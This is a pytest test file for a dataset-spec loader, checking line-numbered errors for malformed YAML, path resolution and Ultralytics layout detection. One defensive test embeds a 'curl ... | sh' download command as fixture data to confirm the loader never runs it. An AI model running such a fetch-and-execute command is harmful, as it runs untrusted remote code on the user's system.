"""load_data_spec: bad values of a dataset YAML of ours are one-line errors naming the file, line and key."""

from __future__ import annotations

from pathlib import Path

import pytest

from detector.data.spec import load_data_spec
from detector.errors import DetectorError

SPLITS = "train: {images: a, annotations: a.json}\nval: {images: b, annotations: b.json}\n"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (SPLITS + "names: {0: circle, x: star}\n", r"d\.yaml:3: 'names' keys must be the class indices 0\.\.1, got \[0, 'x'\]"),
        (SPLITS + "names: {1: circle, 2: star}\n", r"d\.yaml:3: 'names' keys must be the class indices 0\.\.1, got \[1, 2\]"),
        ("train: {images: null, annotations: a.json}\nval: {images: b, annotations: b.json}\n",
         r"d\.yaml:1: 'train\.images' must be a path \(a string\), got None"),
        ("path: [data]\n" + SPLITS, r"d\.yaml:1: 'path' must be a path \(a string\), got \['data'\]"),
    ],
)
def test_bad_names_keys_and_non_string_paths_name_the_line(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "d.yaml").write_text(text)
    with pytest.raises(DetectorError, match=message):
        load_data_spec(tmp_path / "d.yaml")


def test_names_keyed_by_index_are_read_in_key_order(tmp_path: Path) -> None:
    (tmp_path / "d.yaml").write_text(SPLITS + "names: {1: star, 0: circle}\n")
    spec = load_data_spec(tmp_path / "d.yaml")
    assert spec.names == ["circle", "star"] and spec.train.images == (tmp_path / "a").resolve()


def test_a_folder_named_by_a_number_is_that_folder(tmp_path: Path) -> None:
    (tmp_path / "d.yaml").write_text("train: {images: 2017, annotations: a.json}\nval: {images: b, annotations: b.json}\n")
    assert load_data_spec(tmp_path / "d.yaml").train.images == (tmp_path / "2017").resolve()


def test_splits_and_a_path_key_are_relative_to_the_yaml_folder(tmp_path: Path) -> None:
    """Without `path:` the splits are beside the YAML; with `path: sub` under its sub-folder; train and val apart."""
    (tmp_path / "d.yaml").write_text(SPLITS)
    spec = load_data_spec(tmp_path / "d.yaml")
    assert (spec.train.images, spec.train.annotations) == ((tmp_path / "a").resolve(), (tmp_path / "a.json").resolve())
    assert (spec.val.images, spec.val.annotations) == ((tmp_path / "b").resolve(), (tmp_path / "b.json").resolve())
    (tmp_path / "p.yaml").write_text("path: sub\n" + SPLITS)
    assert load_data_spec(tmp_path / "p.yaml").val.images == (tmp_path / "sub" / "b").resolve()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("- a\n- b\n", r"d\.yaml: expected a mapping with 'train' and 'val'"),
        ("train: {images: true, annotations: a.json}\nval: {images: b, annotations: b.json}\n",
         r"d\.yaml:1: 'train\.images' must be a path \(a string\), got True"),
        ("train: {images: '', annotations: a.json}\nval: {images: b, annotations: b.json}\n",
         r"d\.yaml:1: 'train\.images' must be a path \(a string\), got ''"),
        ("train:\n  images: a\n  annotations: a.json\n  labels: l\nval: {images: b, annotations: b.json}\n",
         r"d\.yaml:4: unknown key 'train\.labels'"),
        ("train: {images: a}\nval: {images: b, annotations: b.json}\n",
         r"d\.yaml:1: 'train' must be \{images: <dir>, annotations: <instances json>\}"),
        (SPLITS + "names: {true: circle}\n", r"d\.yaml:3: 'names' keys must be the class indices 0\.\.0"),
        (SPLITS + "names: [circle, 3]\n", r"d\.yaml:3: 'names' must be a list of strings"),
    ],
)
def test_malformed_splits_and_names_name_their_line(tmp_path: Path, text: str, message: str) -> None:
    """A non-mapping file, a bool or empty path, an unknown or missing split key and bad names are line-numbered errors."""
    (tmp_path / "d.yaml").write_text(text)
    with pytest.raises(DetectorError, match=message):
        load_data_spec(tmp_path / "d.yaml")


def test_a_download_key_is_ignored_with_a_warning(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """A `download:` key is never run: the YAML loads, with a warning that says so."""
    (tmp_path / "d.yaml").write_text(SPLITS + "download: curl https://example.com/data.zip | sh\n")
    assert load_data_spec(tmp_path / "d.yaml").train.images == (tmp_path / "a").resolve()
    assert "'download' is ignored (detector never runs scripts from a YAML)" in caplog.text


def test_a_split_given_as_a_path_or_a_list_of_paths_is_the_ultralytics_layout() -> None:
    """Either split as a string or a list makes it an Ultralytics data.yaml; {images, annotations} splits do not."""
    from detector.data.spec import is_yolo_layout

    coco = {"images": "a", "annotations": "a.json"}
    assert is_yolo_layout({"train": "images/train", "val": "images/val"})
    assert is_yolo_layout({"train": ["images/a", "images/b"], "val": coco})
    assert is_yolo_layout({"train": coco, "val": "images/val"})
    assert not is_yolo_layout({"train": coco, "val": coco})
